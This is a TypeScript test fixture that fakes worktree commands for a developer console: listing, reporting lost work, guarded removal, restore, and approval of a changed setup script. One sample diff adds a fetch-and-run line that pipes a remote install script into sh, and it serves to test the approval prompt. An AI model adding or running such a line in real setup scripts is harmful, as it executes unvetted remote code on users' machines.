/** Sample worktrees: of open sessions, some with uncommitted work and one deleted, and one without a session. */
import type { WorktreeLoss, WorktreeShown } from "../../generated/api";
import { refuse, type Commands } from "./commands";
import type { FakeState } from "./state";

type WorktreeCommands = Pick<Commands, Extract<keyof Commands, `worktree.${string}`>>;
const FOLDER = "/home/dv/work/gatehouse-worktrees";
const HASHES = ["9f2c41d07b3ea86c5d14f0928e7ab3c6d5f41e02", "1b77d0c4e59f238a6c0be4d7912f35a8c6e4d103"];

/** With `changed-setup`, the setup command runs a script that changed after it was allowed. */
export function worktreeCommands(state: FakeState): WorktreeCommands {
  const removed = new Set<string>();
  const restored = new Set<string>();
  let asks = state.options.get("with") === "changed-setup";
  const all = (): WorktreeShown[] =>
    state.sessions.flatMap(({ id, title, status, branch, bead_id }, i) => {
      const path = `${FOLDER}/${branch?.replaceAll("/", "-") ?? ""}`;
      if (!branch || status === "closed" || removed.has(path)) return [];
      const lost = status === "paused" && title === "Fix auth redirect" && !restored.has(path);
      const work = !lost && (status === "active" || title === "Precedence climbing");
      return {
        path,
        state: lost ? ("gone" as const) : ("here" as const),
        moved_to: null,
        branch,
        locked: false,
        session: { id, title: title ?? "", status },
        bead_id: bead_id ?? null,
        bytes: lost ? null : (i + 1) * 41_000_000,
        counted: i !== 0,
        clean: !work,
        uncommitted: work ? 2 : 0,
        untracked: work ? 1 : 0,
        commits: lost ? 0 : i,
        trouble: null,
      };
    });
  const kept = (): WorktreeShown => ({
    ...blank,
    path: `${FOLDER}/spike-argon2`,
    branch: "spike/argon2",
    bytes: 12_400_000,
    clean: true,
  });
  const every = () => [...all(), ...[kept()].filter(({ path }) => !removed.has(path))];
  const of = (named: string) =>
    every().find(({ path, branch }) => path === named || branch === named) ??
    refuse("worktree_not_found", `this repository has no worktree "${named}"`);
  const lossOf = ({ path, branch, clean, commits }: WorktreeShown): WorktreeLoss => ({
    path,
    branch,
    clean,
    uncommitted: clean
      ? []
      : [
          { path: "src/parse/expression.rs", change: "modified" },
          { path: "src/parse/precedence.rs", change: "new" },
        ],
    untracked: clean ? [] : ["notes.md"],
    submodules: [],
    commits: HASHES.slice(0, Math.min(commits, 2)).map((hash, n) => ({
      hash,
      subject: n === 0 ? "Climb by binding power" : "Parse unary minus",
    })),
    fingerprint: `loss of ${path}`,
  });
  const setup = () => ({
    command: ["sh", "tools/setup.sh"],
    state: asks ? ("asks" as const) : ("allowed" as const),
    files: ["tools/setup.sh"],
    change: asks ? "--- tools/setup.sh\n+++ tools/setup.sh\n npm ci\n+curl -s https://example.org/install | sh\n" : "",
    fingerprint: "5e70",
  });
  return {
    "worktree.list": () => ({
      folder: FOLDER,
      worktrees: every(),
      bytes: every().reduce((n, { bytes }) => n + (bytes ?? 0), 0),
      warnings: [],
    }),
    "worktree.loss": ({ path }) => lossOf(of(path)),
    "worktree.remove": ({ path, force, seen }) => {
      const tree = of(path);
      const loss = lossOf(tree);
      if (tree.session?.status === "active") {
        const id = tree.session.id.slice(0, 8);
        const hint = `pause it first with \`beads-console session pause ${id}\``;
        refuse("session_state", `session ${id} is active in ${tree.path}`, hint);
      }
      if (!tree.clean && !(force && (seen ?? loss.fingerprint) === loss.fingerprint))
        refuse("confirmation_needed", `removing ${path} would lose: 2 uncommitted files, 1 untracked file or folder`);
      removed.add(tree.path);
      return { path: tree.path, branch: tree.branch };
    },
    "worktree.restore": ({ session }) => {
      const tree =
        every().find((one) => one.session?.id === session) ??
        refuse("session_not_found", `there is no session ${session}; list the sessions to find the right one`);
      const action =
        tree.state === "gone" ? `the worktree ${tree.path} is missing and is created again from ${tree.branch}` : null;
      restored.add(tree.path);
      return { path: tree.path, branch: tree.branch, action, warnings: [] };
    },
    "worktree.setup": setup,
    "worktree.allow_setup": () => {
      asks = false;
      return setup();
    },
  };
}

const blank: WorktreeShown = {
  path: "",
  state: "here",
  moved_to: null,
  branch: null,
  locked: false,
  session: null,
  bead_id: null,
  bytes: null,
  counted: true,
  clean: true,
  uncommitted: 0,
  untracked: 0,
  commits: 0,
  trouble: null,
};
